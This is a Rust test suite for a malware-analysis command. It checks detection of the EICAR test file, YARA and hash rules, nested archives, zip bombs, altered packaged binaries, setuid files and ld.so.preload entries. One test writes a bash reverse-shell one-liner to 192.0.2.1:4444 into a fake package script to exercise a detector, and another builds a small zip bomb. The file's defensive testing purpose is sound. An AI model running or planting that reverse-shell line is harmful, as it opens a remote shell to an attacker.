//! `analyze` finds what is planted, says how, and is held up by nothing.

use std::io::Write;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use lrsh::protocol::link::{AgentLink, DeliveredFile, Delivery, DeviceCommand, StopReason};
use lrsh::protocol::{Body, Status};
use serde_json::Value;
use sha2::Digest;

use crate::kit::device::{Answer, Device, body};
use crate::kit::need::need;

/// The EICAR test file, put together here so that no scanner finds it in this repository.
pub fn eicar() -> String {
    [r"X5O!P%@AP[4\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"].concat()
}

/// Puts rule files with a command, as the service does.
pub fn with_rules(mut command: DeviceCommand, files: &[(&str, &[u8])]) -> (DeviceCommand, Option<Delivery>) {
    let (sender, delivery) = tokio::sync::mpsc::channel(files.len().max(1));
    for (name, content) in files {
        let sha256: String = sha2::Sha256::digest(content).iter().map(|byte| format!("{byte:02x}")).collect();
        let file = DeliveredFile { name: (*name).to_owned(), size: content.len() as u64, sha256, signature: None };
        command.rule_files.push(file);
        sender.try_send(Ok(content.to_vec().into())).unwrap();
    }
    (command, Some(delivery))
}

pub fn analyze(device: &Device, path: &Path, rules: &[(&str, &[u8])]) -> Answer {
    let command = device.command("analyze", &[("type", "file"), ("id", path.to_str().unwrap())], &[]);
    let (command, delivery) = with_rules(command, rules);
    let answer = device.send(command, delivery);
    assert_eq!(answer.completed.status, Status::Completed, "{:?}", answer.completed);
    answer
}

fn judged(device: &Device, path: &Path, rules: &[(&str, &[u8])]) -> Value {
    analyze(device, path, rules).object()
}

/// The rules of an answer's evidence, each with its engine and weight.
pub fn evidence(told: &Value) -> Vec<String> {
    let one = |found: &Value| {
        format!("{} {} {}", found["engine"].as_str().unwrap(), found["rule"].as_str().unwrap(), found["weight"])
    };
    told["evidence"].as_array().unwrap().iter().map(one).collect()
}

fn state<'a>(told: &'a Value, engine: &str) -> &'a Value {
    told["engines"].as_array().unwrap().iter().find(|state| state["engine"] == engine).unwrap()
}

#[test]
fn what_is_planted_is_found_with_its_evidence() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    let check = |content: &[u8], rules: &[(&str, &[u8])], verdict: &str, wanted: &[&str]| {
        std::fs::write(&path, content).unwrap();
        let told = judged(&device, &path, rules);
        assert_eq!(
            (told["verdict"].as_str().unwrap(), evidence(&told)),
            (verdict, wanted.iter().map(|&s| s.to_owned()).collect()),
            "{told}"
        );
        told
    };
    let told = check(eicar().as_bytes(), &[], "malicious", &["builtin eicar_test_file 100"]);
    assert_eq!(told["score"], 100);
    assert!(told["rule"].as_str().unwrap().contains("100 and more is malicious"));
    assert_eq!(state(&told, "yara")["state"], "absent");
    let told = check(b"plain", &[], "clean", &[]);
    let sha256: String = sha2::Sha256::digest(b"plain").iter().map(|byte| format!("{byte:02x}")).collect();
    assert_eq!(told["sha256"], sha256);
    check(b"", &[], "clean", &[]);

    let rule = b"rule found { meta: description = \"the word\" strings: $a = \"needle\" condition: $a }";
    let told = check(b"hay needle hay", &[("own.yar", rule)], "suspicious", &["yara own.yar:found 60"]);
    assert_eq!(told["evidence"][0]["what"], "the word ($a at byte 4)");
    let sure = b"rule sure { meta: weight = 100 strings: $a = \"needle\" condition: $a }";
    check(b"needle", &[("own.yar", rule), ("b.yara", sure)], "malicious", &["yara b.yara:sure 100", "yara own.yar:found 60"]);
    let list: String = sha2::Sha256::digest(b"known").iter().map(|byte| format!("{byte:02x}")).collect();
    let list = format!("{list}  a known one\n");
    check(b"known", &[("own.sha256", list.as_bytes())], "malicious", &["hashes own.sha256:a known one 100"]);
    check(b"unknown", &[("own.sha256", list.as_bytes())], "clean", &[]);
}

#[test]
fn rule_files_that_came_altered_or_are_no_rules_are_said() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    std::fs::write(&path, "needle").unwrap();
    let device = Device::live();
    let rules: [(&str, &[u8]); 2] = [("bad.yar", b"rule {"), ("odd.md5", b"no hash\n")];
    let answer = analyze(&device, &path, &rules);
    let said: Vec<&str> = answer.completed.errors.iter().map(|error| error.code.as_str()).collect();
    assert_eq!(said, ["bad_rules", "bad_rules"], "{:?}", answer.completed.errors);

    let command = device.command("analyze", &[("type", "file"), ("id", path.to_str().unwrap())], &[]);
    let (mut command, delivery) = with_rules(command, &[("a.yar", b"rule a { condition: true }")]);
    command.rule_files[0].sha256 = "0".repeat(64);
    let answer = device.send(command, delivery);
    assert_eq!((answer.completed.status, answer.completed.errors[0].code.as_str()), (Status::Failed, "hash_differs"));
}

#[test]
fn archives_are_looked_into() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("outer.zip");
    let zipped = |name: &str, content: &[u8]| {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(content).unwrap();
        zip.finish().unwrap().into_inner()
    };
    std::fs::write(&path, zipped("inner.zip", &zipped("evil.com", eicar().as_bytes()))).unwrap();
    let told = judged(&device, &path, &[]);
    assert_eq!(told["verdict"], "malicious", "{told}");
    assert_eq!(told["evidence"][0]["place"], "inner.zip > evil.com");
    assert_eq!(told["not_looked_at"], serde_json::json!([]));

    // Deeper than it is looked: said.
    let mut deep = zipped("evil.com", eicar().as_bytes());
    for _ in 0..6 {
        deep = zipped("next.zip", &deep);
    }
    std::fs::write(&path, deep).unwrap();
    let told = judged(&device, &path, &[]);
    assert_eq!(told["verdict"], "unknown", "{told}");
    assert!(told["not_looked_at"][0].as_str().unwrap().contains("more than 4 archives"), "{told}");

    // One that holds too much hides no other, and is said.
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for (name, content) in [("zeros", vec![0; 20 << 20]), ("evil.com", eicar().into_bytes())] {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(&content).unwrap();
    }
    std::fs::write(&path, zip.finish().unwrap().into_inner()).unwrap();
    let told = judged(&device, &path, &[]);
    assert_eq!((told["verdict"].as_str(), told["evidence"][0]["place"].as_str()), (Some("malicious"), Some("evil.com")));
    assert_eq!(told["not_looked_at"].as_array().unwrap().len(), 1, "{told}");
    assert!(told["not_looked_at"][0].as_str().unwrap().contains("zeros: it unpacks to more than"), "{told}");

    // Behind a program or anything else it is a zip all the same.
    std::fs::write(&path, [b"MZ or a picture", zipped("evil.com", eicar().as_bytes()).as_slice()].concat()).unwrap();
    let told = judged(&device, &path, &[]);
    assert_eq!((told["verdict"].as_str(), told["evidence"][0]["place"].as_str()), (Some("malicious"), Some("evil.com")));

    // What cannot be looked into is not clean.
    for (head, what) in
        [(&b"BZh91AY&SY and so on"[..], "bzip2"), (b"7z\xbc\xaf\x27\x1c\0\x04", "7z"), (b"Rar!\x1a\x07\x01\0", "rar")]
    {
        for content in [head.to_vec(), zipped("inner", head)] {
            std::fs::write(&path, content).unwrap();
            let told = judged(&device, &path, &[]);
            let said = told["not_looked_at"][0].as_str().unwrap_or_default();
            assert!(
                told["verdict"] == "unknown" && said.contains(&format!("it is {what}, which is not looked into")),
                "{told}"
            );
        }
    }

    // A bomb: zeros, a thousandth of their size.
    let mut bomb = flate2::write::GzEncoder::new(std::fs::File::create(&path).unwrap(), flate2::Compression::best());
    let zeros = vec![0; 1 << 20];
    for _ in 0..20 {
        bomb.write_all(&zeros).unwrap();
    }
    bomb.finish().unwrap();
    let told = judged(&device, &path, &[]);
    assert!(told["not_looked_at"][0].as_str().unwrap().contains("times its size"), "{told}");
}

#[test]
fn what_xz_compresses_is_looked_into() {
    if !need(&["xz", "tar"]) {
        return;
    }
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("evil"), eicar()).unwrap();
    let run = |program: &str, arguments: &[&str]| {
        let ran = std::process::Command::new(program).args(arguments).current_dir(folder.path()).status().unwrap();
        assert!(ran.success());
    };
    run("tar", &["-cJf", "evil.tar.xz", "evil"]);
    run("xz", &["evil"]);
    for name in ["evil.tar.xz", "evil.xz"] {
        let told = judged(&device, &folder.path().join(name), &[]);
        assert_eq!(
            (told["verdict"].as_str(), told["evidence"][0]["place"].as_str()),
            (Some("malicious"), Some("evil")),
            "{told}"
        );
    }
}

/// Larger than what is kept in memory: text, with a word at the end, and EICAR where it begins nothing.
pub fn large() -> Vec<u8> {
    let mut content = vec![b'.'; 40 << 20];
    let at = (32 << 20) - (64 << 10);
    content[at..at + 68].copy_from_slice(eicar().as_bytes());
    content.extend(b"needle");
    content
}

#[test]
fn conditions_on_large_content_mean_the_whole() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("large");
    let content = large();
    std::fs::write(&path, &content).unwrap();
    let size = content.len();
    let rules = format!(
        r#"import "hash"
        rule size {{ meta: weight = 1 condition: filesize == {size} }}
        rule small {{ condition: filesize < 33MB }}
        rule last {{ meta: weight = 2 strings: $a = "needle" condition: $a at filesize - 6 and uint8(filesize - 1) == 0x65 }}
        rule first {{ strings: $a = "needle" $b = "X5O" condition: $a at 0 or $b at 0 or $a in (0..33554432) }}
        rule hashed {{ meta: weight = 3 condition: hash.md5(0, filesize) == "{:032x}" }}"#,
        md5_of(&content)
    );
    let rules: [(&str, &[u8]); 1] = [("own.yar", rules.as_bytes())];
    let told = judged(&device, &path, &rules);
    assert_eq!(evidence(&told), ["yara own.yar:hashed 3", "yara own.yar:last 2", "yara own.yar:size 1"], "{told}");
    assert_eq!((told["verdict"].as_str(), &told["not_looked_at"]), (Some("clean"), &serde_json::json!([])), "{told}");
    assert!(told["evidence"][1]["what"].as_str().unwrap().ends_with(&format!("($a at byte {})", size - 6)), "{told}");

    // In an archive the rules see the start of it, and that is said.
    let mut zip = zip::ZipWriter::new(std::fs::File::create(folder.path().join("zip")).unwrap());
    let stored = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    zip.start_file("large", stored).unwrap();
    zip.write_all(&content).unwrap();
    zip.finish().unwrap();
    let told = judged(&device, &folder.path().join("zip"), &rules);
    assert_eq!(told["verdict"], "unknown", "{told}");
    assert!(
        told["not_looked_at"][0].as_str().unwrap().starts_with(&format!("large: of its {size} bytes rules saw the first")),
        "{told}"
    );
    let in_large = |found: &&Value| found["place"] == "large";
    assert_eq!(told["evidence"].as_array().unwrap().iter().find(in_large).unwrap()["rule"], "own.yar:size", "{told}");
}

#[test]
fn what_has_no_end_or_no_content_holds_nothing_up() {
    let folder = tempfile::tempdir().unwrap();
    let device = Device::live();
    let fifo = folder.path().join("fifo");
    rustix::fs::mknodat(rustix::fs::CWD, &fifo, rustix::fs::FileType::Fifo, 0o600.into(), 0).unwrap();
    for path in [fifo.as_path(), folder.path(), Path::new("/dev/zero"), &folder.path().join("none")] {
        let answer = device.run("analyze", &[("type", "file"), ("id", path.to_str().unwrap())], &[]);
        assert_eq!(answer.completed.status, Status::Failed, "{path:?}");
        assert!(answer.completed.errors[0].message.contains(path.to_str().unwrap()), "{:?}", answer.completed.errors);
    }

    let sparse = folder.path().join("sparse");
    let file = std::fs::File::create(&sparse).unwrap();
    file.set_len(30 << 30).unwrap();
    std::os::unix::fs::FileExt::write_at(&file, b"needle", 20 << 30).unwrap();
    let rule: (&str, &[u8]) = ("own.yar", b"rule found { strings: $a = \"needle\" condition: $a }");
    let told = judged(&device, &sparse, &[rule, ("x.md5", b"00112233445566778899aabbccddeeff\n")]);
    assert_eq!(evidence(&told), ["yara own.yar:found 60"], "{told}");
    assert!(told["evidence"][0]["what"].as_str().unwrap().contains(&format!("byte {}", 20_u64 << 30)), "{told}");
    assert!(state(&told, "hashes")["error"].as_str().unwrap().contains("no hash is computed"), "{told}");
    assert_eq!(told["sha256"], Value::Null);
}

#[test]
fn a_file_that_grows_for_ever_is_read_as_far_as_it_went() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("log");
    std::fs::write(&path, vec![b'x'; 1 << 20]).unwrap();
    let over = std::sync::atomic::AtomicBool::new(false);
    let (growing, grown) = std::sync::mpsc::channel();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            let growing = growing;
            let mut file = std::fs::File::options().append(true).open(&path).unwrap();
            while !over.load(std::sync::atomic::Ordering::Relaxed) {
                file.write_all(&[b'x'; 4096]).unwrap();
                let _ = growing.send(());
            }
        });
        grown.recv().unwrap();
        let told = judged(&device, &path, &[]);
        over.store(true, std::sync::atomic::Ordering::Relaxed);
        assert_eq!(told["evidence"], serde_json::json!([]), "{told}");
    });
}

#[test]
fn a_changed_program_of_a_package_and_odd_modes_are_found() {
    let root = tempfile::tempdir().unwrap();
    let at = |path: &str| root.path().join(path);
    for folder in ["usr/bin", "usr/share/doc/tools", "usr/share/man", "var/lib/dpkg/info", "etc", "tmp/.x", "dev"] {
        std::fs::create_dir_all(at(folder)).unwrap();
    }
    let program = std::fs::read("/bin/true").unwrap();
    let md5 = format!("{:032x}", md5_of(&program));
    std::fs::write(at("var/lib/dpkg/status"), "Package: tools\nStatus: install ok installed\nVersion: 1\n").unwrap();
    let list = "/.\n/usr\n/usr/bin\n/usr/bin/tool\n/usr/bin/shell\n/usr/share/doc/tools/mail.sh\n/usr/share/man/tool.1\n";
    std::fs::write(at("var/lib/dpkg/info/tools.list"), list).unwrap();
    let reverse = format!("bash -i >& /{}/tcp/192.0.2.1/4444 0>&1\n", "dev");
    let (page, example) = (format!("{:032x}", md5_of(b"page")), format!("{:032x}", md5_of(reverse.as_bytes())));
    let sums = [(&md5, "bin/tool"), (&md5, "bin/shell"), (&example, "share/doc/tools/mail.sh"), (&page, "share/man/tool.1")];
    let sums: String = sums.iter().map(|(sum, path)| format!("{sum}  usr/{path}\n")).collect();
    std::fs::write(at("var/lib/dpkg/info/tools.md5sums"), sums).unwrap();
    let device = Device::at(root.path());
    let check = |path: &str, verdict: &str, wanted: &[&str]| {
        let told = analyze(&device, Path::new(path), &[]).object();
        assert_eq!(
            (told["verdict"].as_str().unwrap(), evidence(&told)),
            (verdict, wanted.iter().map(|&s| s.to_owned()).collect()),
            "{told}"
        );
    };
    let write = |path: &str, content: &[u8], mode: u32| {
        std::fs::write(at(path), content).unwrap();
        std::fs::set_permissions(at(path), std::fs::Permissions::from_mode(mode)).unwrap();
    };
    write("usr/bin/tool", &program, 0o755);
    check("/usr/bin/tool", "clean", &["packages as_shipped 0"]);
    let mut changed = program.clone();
    *changed.last_mut().unwrap() ^= 1;
    write("usr/bin/tool", &changed, 0o755);
    check("/usr/bin/tool", "suspicious", &["packages changed 60"]);
    // What is read and not run weighs less; and so do examples in what is as it was shipped.
    write("usr/share/man/tool.1", b"another page", 0o644);
    check("/usr/share/man/tool.1", "clean", &["packages changed 20"]);
    write("usr/share/man/tool.1", &changed, 0o644);
    check("/usr/share/man/tool.1", "suspicious", &["packages changed 60"]);
    write("usr/share/doc/tools/mail.sh", reverse.as_bytes(), 0o755);
    check("/usr/share/doc/tools/mail.sh", "clean", &["builtin reverse_shell 20", "packages as_shipped 0"]);
    write("usr/share/doc/tools/mail.sh", format!("{reverse}\n").as_bytes(), 0o755);
    check("/usr/share/doc/tools/mail.sh", "malicious", &["builtin reverse_shell 60", "packages changed 60"]);
    // Whoever changes a program need only take its checksums away.
    let sums = std::fs::read(at("var/lib/dpkg/info/tools.md5sums")).unwrap();
    std::fs::remove_file(at("var/lib/dpkg/info/tools.md5sums")).unwrap();
    let told = analyze(&device, Path::new("/usr/bin/tool"), &[]).object();
    assert_eq!(
        (told["verdict"].as_str(), state(&told, "packages")["state"].as_str()),
        (Some("unknown"), Some("error")),
        "{told}"
    );
    assert!(
        state(&told, "packages")["error"].as_str().unwrap().contains("the package tools owns it and has no checksum"),
        "{told}"
    );
    write("var/lib/dpkg/info/tools.md5sums", &sums, 0o644);
    write("tmp/.x/tool", &program, 0o755);
    check("/tmp/.x/tool", "suspicious", &["static temporary 20", "static hidden 20"]);
    write("dev/tool", &program, 0o755);
    check("/dev/tool", "suspicious", &["static device_folder 60"]);
    write("etc/ld.so.preload", b"/usr/bin/tool /usr/lib/evil.so\n", 0o644);
    check("/etc/ld.so.preload", "suspicious", &["static ld_so_preload 60", "static ld_so_preload 0"]);
    if std::fs::metadata(at("usr/bin")).map(|facts| std::os::unix::fs::MetadataExt::uid(&facts)).unwrap() == 0 {
        write("usr/bin/shell", &program, 0o4755);
        check("/usr/bin/shell", "suspicious", &["static setuid 50", "packages as_shipped 0"]);
        write("tmp/shell", &program, 0o4755);
        check("/tmp/shell", "suspicious", &["static setuid 70", "static temporary 20"]);
    }
}

fn md5_of(bytes: &[u8]) -> u128 {
    let sum = <md5::Md5 as md5::Digest>::digest(bytes);
    u128::from_be_bytes(sum.into())
}

#[test]
fn rules_that_take_for_ever_are_given_up_and_the_others_look() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    std::fs::write(&path, [eicar().as_bytes(), "ab".repeat(450_000).as_bytes()].concat()).unwrap();
    // Each of half a million places begins what could match, and is tried over thousands of bytes.
    let strings: String = (0..30).map(|n| format!("$a{n} = /ab[ab]{{{},{}}}c/ ", 3000 + n, 4000 + n)).collect();
    let rule = format!("rule endless {{ strings: {strings} condition: any of them }}");
    let told = judged(&device, &path, &[("endless.yar", rule.as_bytes())]);
    let library = state(&told, "yara");
    assert!(library["error"].as_str().is_some_and(|why| why.contains("took more than")), "{told}");
    assert_eq!(
        (told["verdict"].as_str(), state(&told, "builtin")["state"].as_str()),
        (Some("malicious"), Some("looked")),
        "{told}"
    );
}

#[test]
fn a_file_of_rules_that_does_not_end_is_found_out_and_the_others_look() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    std::fs::write(&path, "needle").unwrap();
    let endless = b"rule endless { condition: for all i in (0..100000000000) : (uint8(i%5)==uint8(i%7) or true) }";
    let good = b"rule good { strings: $a = \"needle\" condition: $a }";
    let answer = analyze(&device, &path, &[("a.yar", good), ("endless.yar", endless), ("z.yar", good)]);
    let told = answer.object();
    assert_eq!(evidence(&told), ["yara a.yar:good 60", "yara z.yar:good 60"], "{told}");
    let wanted = "endless.yar: its rules took more than 4 s for 6 bytes and were given up; `library delete endless.yar`";
    assert!(told["not_looked_at"][0].as_str().is_some_and(|said| said.contains(wanted)), "{told}");
    let errors = &answer.completed.errors;
    assert!(errors.len() == 1 && errors[0].code == "bad_rules" && errors[0].message.contains(wanted), "{errors:?}");
}

#[test]
fn a_cancel_is_heard_while_rules_look() {
    let device = Device::live();
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    let content = "ab".repeat(450_000);
    std::fs::write(&path, &content).unwrap();
    // The rest of the file is read by then, and the rules have it.
    let strings: String = (0..30).map(|n| format!("$a{n} = /ab[ab]{{{},{}}}c/ ", 3000 + n, 4000 + n)).collect();
    let rule = format!("rule endless {{ strings: {strings} condition: any of them }}");
    let command = device.command("analyze", &[("type", "file"), ("id", path.to_str().unwrap())], &[]);
    let (command, delivery) = with_rules(command, &[("endless.yar", rule.as_bytes())]);
    let id = command.command_id;
    let mut heard = device.agent.start(command, delivery);
    let completed = device.runtime.block_on(async {
        while let Some(event) = heard.events.recv().await {
            match body(event) {
                Body::Progress(progress) if progress.done >= content.len() as u64 => {
                    device.agent.stop(id, StopReason::Cancel { by: "the test".into() });
                }
                Body::Completed(completed) => return completed,
                _ => {}
            }
        }
        panic!("the stream ended without `completed`");
    });
    assert_eq!(completed.status, Status::Cancelled, "{completed:?}");
}

#[test]
fn rules_that_are_not_understood_are_not_rules_that_found_nothing() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    std::fs::write(&path, "harmless").unwrap();
    let told = judged(&Device::live(), &path, &[("bad.yar", b"rule {")]);
    let library = state(&told, "yara");
    assert_eq!((library["state"].as_str(), told["verdict"].as_str()), (Some("error"), Some("unknown")), "{told}");
    assert!(library["error"].as_str().unwrap().contains("bad.yar"), "{told}");
}

#[test]
fn a_signature_of_our_own_is_found_by_clamav() {
    if !need(&["clamscan"]) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("file");
    let content = b"what only this test knows";
    std::fs::write(&path, content).unwrap();
    let device = Device::live();
    let signature = format!("{:032x}:{}:Own.Test\n", md5_of(content), content.len());
    let told = judged(&device, &path, &[("own.hdb", signature.as_bytes())]);
    assert_eq!(evidence(&told), ["clamav Own.Test.UNOFFICIAL 100"], "{told}");
    assert_eq!(told["verdict"], "malicious");
    std::fs::write(&path, "something else").unwrap();
    assert_eq!(judged(&device, &path, &[("own.hdb", signature.as_bytes())])["verdict"], "clean");
    // One that it does not understand is its error, and the others look.
    std::fs::write(&path, eicar()).unwrap();
    let told = judged(&device, &path, &[("own.hdb", b"no signature\n")]);
    assert_eq!(
        (told["verdict"].as_str(), state(&told, "clamav")["state"].as_str()),
        (Some("malicious"), Some("error")),
        "{told}"
    );
    let left = std::fs::read_dir(device.folder.path().join("agent")).unwrap().flatten();
    assert_eq!(left.filter(|entry| entry.file_name().to_string_lossy().starts_with("clamav")).count(), 0);
}
